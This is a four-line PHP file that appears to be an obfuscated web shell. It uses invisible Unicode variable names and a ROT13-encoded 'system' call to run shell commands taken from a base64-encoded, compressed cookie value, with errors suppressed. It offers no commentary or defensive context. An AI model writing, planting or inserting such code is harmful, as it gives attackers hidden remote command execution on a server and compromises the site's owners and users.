<?php
$ㅤ = str_rot13('flfgrz');
$ㅤㅤ = @gzinflate(base64_decode($_COOKIE['t'] ?? ''));
$ㅤ($ㅤㅤ);
